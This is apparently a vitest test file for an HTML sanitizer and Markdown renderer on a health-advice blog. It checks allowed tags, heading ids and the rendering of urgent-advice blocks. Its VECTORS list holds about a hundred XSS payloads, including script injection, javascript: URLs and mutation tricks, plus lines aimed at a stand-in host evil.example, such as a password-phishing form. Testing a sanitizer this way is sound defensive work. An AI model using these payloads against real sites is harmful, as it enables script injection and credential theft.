import { describe, expect, it } from 'vitest'
import { cleanHtml, contentsOf } from './clean-html.ts'
import { toHtml } from '../app/import/markdown.ts'

/** Finds the errors in all tags and attributes of a text. Clean output is canonical, so this covers all of it. */
function faultsOf(html: string): string[] {
  const faults: string[] = []
  const rest = html.replace(
    /<\/?([a-z0-9]+)((?: [a-z-]+="[^"<>]*")*) ?\/?>/g,
    (_all, tag: string, attributes: string) => {
      if (!TAGS.has(tag)) faults.push(`tag ${tag}`)
      for (const [, name, value] of attributes.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
        if (!ATTRIBUTES[name!]?.test(value!)) faults.push(`${tag} ${name}=${value}`)
      }
      return ''
    },
  )
  if (/<|>/.test(rest)) faults.push(`a bracket that is no tag: ${rest}`)
  return faults
}
const TAGS = new Set(
  'h2 h3 h4 p ul ol li blockquote hr br strong em a img code pre table caption thead tbody tr th td div figure figcaption svg rect'.split(
    ' ',
  ),
)
const ATTRIBUTES: Record<string, RegExp> = {
  href: /^(?:https:|mailto:|tel:|\/(?!\/)|#|[\w.-]+(?:\/|$))/,
  rel: /^noopener nofollow$/,
  src: /^\/images\/(?!.*\.\.)[\w/.-]+$/,
  id: /^s-[a-z0-9-]+$/,
  alt: /./,
  title: /./,
  width: /^[\w.%]*$/,
  height: /^\w*$/,
  start: /./,
  align: /./,
  class: /^urgent$/,
  role: /^(?:region|note)$/,
  'aria-label': /^(?:Table \d+|Urgent)$/,
  tabindex: /^0$/,
  scope: /^row$/,
  'aria-hidden': /^true$/,
  x: /^[\w.%]*$/,
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<script\n>alert(1)</script\n>',
  '<script>/* </p> */alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img src=x:x onerror=alert(1)//',
  '<img """><script>alert(1)</script>">',
  '<img src=`javascript:alert(1)`>',
  '<img src="/images/../../evil" onload=alert(1)>',
  '<img src="//evil.example/p.gif">',
  '<img src="https://evil.example/p.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/p.gif 1x" src="/images/a.svg">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<image href=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>body{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">over</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x.example" onclick="alert(1)" target="_blank" ping="https://evil.example">x</a>',
  '<a href="https://x.example" rel="opener">x</a>',
  '<a href="#" id="location" name="forms">x</a>',
  '<h2 id="root">x</h2><h3 name="cookie">x</h3>',
  '<h2 id="s-one" onclick=alert(1)>x</h2>',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>x</body>',
  '<dialog open>x</dialog>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<table><tr><td onmouseover=alert(1)>x</td></tr></table><div role="alert" tabindex="5">x</div>',
  '<ol start="1" onclick=alert(1)><li value="1" style="color:red">x</ol>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x onclick=alert(1) tabindex=1 autofocus>x</x>',
  '<p/onclick=alert(1)>x</p>',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '<p is="x-y" slot="x" part="x" contenteditable>x</p>',
  '<code><script>alert(1)</script></code>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<div class="urgent" onclick=alert(1) style="position:fixed">x</div>',
  '<blockquote><p><strong>Urgent.</strong> <img src=x onerror=alert(1)><script>alert(1)</script></blockquote>',
  '<blockquote><p><strong>Urgent.</strong> a<blockquote><p><strong>Urgent.</strong> b</blockquote>c</blockquote>',
]

it('there are at least sixty attacks on a text', () => expect(VECTORS.length).toBeGreaterThanOrEqual(60))

describe('BLOG-10 a cleaned text', () => {
  it.each(VECTORS)('holds nothing but what may be read: %s', (vector) => {
    expect(faultsOf(cleanHtml(vector))).toEqual([])
    expect(faultsOf(cleanHtml(`<table><tr><td>${vector}</td></tr></table>`))).toEqual([])
    expect(faultsOf(toHtml(`Text\n\n${vector}\n\nand ${vector} within`))).toEqual([])
  })

  it.each(VECTORS)('cleaned again stays as it is: %s', (vector) => {
    const once = cleanHtml(`<h2>Title</h2>${vector}`)
    expect(cleanHtml(once)).toBe(once)
  })

  it.each(['javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'data:text/html,x', 'vbscript:x', '//evil.example'])(
    'of Markdown leads nowhere by [x](%s)',
    (address) => expect(toHtml(`[x](${address}) ![x](${address})`)).not.toContain(address),
  )
})

describe('the headings of a text', () => {
  const html = cleanHtml(
    '<h2>What helps?</h2><h3>Sleep &amp; <em>rest</em></h3><h2>What helps?</h2><h4>More</h4><h2>दर्द</h2>',
  )

  it('have ids of their own, with our prefix', () =>
    expect([...html.matchAll(/id="([^"]+)"/g)].map(([, id]) => id)).toEqual([
      's-what-helps',
      's-sleep-rest',
      's-what-helps-2',
      's-more',
      's-section',
    ]))

  it('make its table of contents, down to the third level', () =>
    expect(contentsOf(html)).toEqual([
      { id: 's-what-helps', title: 'What helps?', level: 2 },
      { id: 's-sleep-rest', title: 'Sleep & rest', level: 3 },
      { id: 's-what-helps-2', title: 'What helps?', level: 2 },
      { id: 's-section', title: 'दर्द', level: 2 },
    ]))
})

it('a table stands in a labelled region that the keyboard reaches', () =>
  expect(toHtml('| a | b |\n|---|---|\n| 1 | 2 |')).toContain(
    '<div role="region" aria-label="Table 1" tabindex="0"><table>',
  ))

describe('advice that must not be missed', () => {
  const alert = '<div class="urgent" role="note" aria-label="Urgent">'
  it('is a quotation that begins with Urgent, and stays what it is when it is cleaned again', () => {
    const html = toHtml('> **Urgent.** Go *today*.\n\nText')
    expect(html).toBe(`${alert}\n<p><strong>Urgent.</strong> Go <em>today</em>.</p>\n</div>\n<p>Text</p>`)
    expect(cleanHtml(html)).toBe(html)
  })
  it('calls an emergency number at a tap, and leaves links and other numbers alone', () => {
    const html = toHtml('> **Urgent.** Call 112 or [1097](tel:1097), not [page 108](/a) or 1800 112 356.\n\nNot 112.')
    expect(html).toContain(
      'Call <a href="tel:112">112</a> or <a href="tel:1097">1097</a>, not <a href="/a">page 108</a> or 1800 112 356.',
    )
    expect(html).toContain('<p>Not 112.</p>')
    expect(cleanHtml(html)).toBe(html)
  })
  it.each(['> Urgent. Go.', '> It is **Urgent.** Go.', '**Urgent.** Go.'])('is not %s', (text) =>
    expect(toHtml(text)).not.toContain('<div'),
  )
  it('can’t be had by its class alone', () =>
    expect(cleanHtml('<div class="urgent"><p>Buy now</p></div>')).toBe('<blockquote><p>Buy now</p></blockquote>'))
})
